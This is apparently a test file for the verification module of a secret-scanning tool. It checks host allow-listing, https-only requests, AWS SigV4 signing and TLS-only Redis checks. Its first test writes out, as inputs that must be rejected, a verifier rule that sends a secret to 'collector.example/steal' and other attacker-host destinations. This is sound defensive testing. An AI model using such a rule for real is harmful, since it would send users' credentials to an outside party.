// Safe by construction: a verifier can only name a documented provider host over https (even
// one from a --rules folder), the value never goes in a URL, the client refuses any other
// destination, SigV4 matches AWS's published test vector, and database URLs are only tried on
// request, over TLS, at the host they name.
import t from 'tap';
import { parseVerifier, signV4, hostAllowed, verifyStage } from '../../dist/verify/index.js';
import { httpsCall } from '../../dist/verify/http.js';
import { SecretValues } from '../../dist/engine/secret-values.js';
import { makeCertificates, startRedisServer } from './provider-server.mjs';

const base = { docs: 'https://example.com/docs', active: [{ status: 200 }], inactive: [{ status: 401 }] };

t.test('a verifier naming any other host, plain http, a port or the value in its URL is refused', async (t) => {
  t.throws(() => parseVerifier('evil', { ...base, request: { url: 'https://collector.example/steal', headers: { Authorization: '{{secret}}' } } }), /host 'collector\.example' is not in the documented provider hosts/);
  t.throws(() => parseVerifier('evil', { ...base, request: { url: 'http://api.github.com/user' } }), /only https/);
  t.throws(() => parseVerifier('evil', { ...base, request: { url: 'https://api.github.com:8443/user' } }), /default https port/);
  t.throws(() => parseVerifier('evil', { ...base, request: { url: 'https://api.github.com/user?t={{secret}}' } }), /may not appear in the URL/);
  t.throws(() => parseVerifier('evil', { ...base, request: { method: 'DELETE', url: 'https://api.github.com/user' } }), /GET or POST/);
  t.throws(() => parseVerifier('evil', { ...base, scheme: 'exfiltrate' }), /unknown scheme/);
  t.notOk(hostAllowed('evil.com.myshopify.com.attacker.test'));
  t.notOk(hostAllowed('a.b.myshopify.com'), 'a wildcard is one label');
  t.ok(hostAllowed('acme.myshopify.com'));
});

t.test('the client refuses undocumented destinations before connecting', async (t) => {
  await t.rejects(httpsCall({ method: 'GET', url: new URL('https://attacker.test/'), headers: {} }), /refused/);
  await t.rejects(httpsCall({ method: 'GET', url: new URL('http://api.github.com/'), headers: {} }), /refused/);
});

t.test('SigV4: the get-vanilla vector of the AWS test suite', async (t) => {
  const h = signV4({ method: 'GET', host: 'example.amazonaws.com', path: '/', headers: {}, body: '', region: 'us-east-1', service: 'service', accessKeyId: 'AKIDEXAMPLE', secretAccessKey: 'wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY', amzDate: '20150830T123600Z' });
  t.equal(h.authorization, 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5fa00fa31553b73ebf1942676e86291e8372ff2a2260956d9b8aae1d763fbf31');
});

t.test('network services: only with --verify-network-services; Redis over TLS; drivers not shipped', async (t) => {
  const certs = makeCertificates(['cache.acme.test']);
  const redis = await startRedisServer(certs, ['s3cret-Pass']);
  t.teardown(redis.close);
  const transport = { ca: certs.ca, connect: { host: '127.0.0.1', port: redis.port }, timeoutMs: 3000 };
  const run = async (ruleId, value, url, networkServices = true) => {
    const values = new SecretValues();
    values.remember(`fp-${ruleId}`, value, { url });
    const cred = { fingerprint: `fp-${ruleId}`, ruleId, severity: 'high', confidence: 'high', flags: [], reasons: {}, findings: [{ ruleId }] };
    const out = await verifyStage([cred], [], { verify: true, networkServices, onlyActive: false, timeoutSeconds: 3, budget: 10, perHostConcurrency: 1, ttlHours: 0, transport, limits: { backoffMs: 1, perHostGapMs: 0 } }, { values, log: () => {} });
    return out.credentials[0].verification;
  };
  t.match(await run('redis-url', 's3cret-Pass', 'rediss://app:s3cret-Pass@cache.acme.test:6380/0'), { status: 'active', hosts: ['cache.acme.test:6380'], identity: { account: 'app@cache.acme.test:6380' } });
  t.equal(redis.seen.at(-1).servername, 'cache.acme.test', 'TLS to the host the URL names');
  t.match(await run('redis-url', 'old-Pass', 'rediss://app:old-Pass@cache.acme.test:6380/0'), { status: 'inactive' });
  const n = redis.seen.length;
  t.match(await run('redis-url', 'plain-Pass', 'redis://:plain-Pass@cache.acme.test:6379'), { status: 'unknown', reason: /plaintext/ });
  t.equal(redis.seen.length, n, 'a plaintext URL is never tried');
  t.match(await run('postgres-url', 'pw', 'postgres://u:pw@db.acme.test/app'), { status: 'unknown', reason: /needs the npm package 'pg', which credsweep does not ship/ });
  t.equal(await run('redis-url', 's3cret-Pass', 'rediss://app:s3cret-Pass@cache.acme.test:6380/0', false), undefined, 'not planned without --verify-network-services');
});
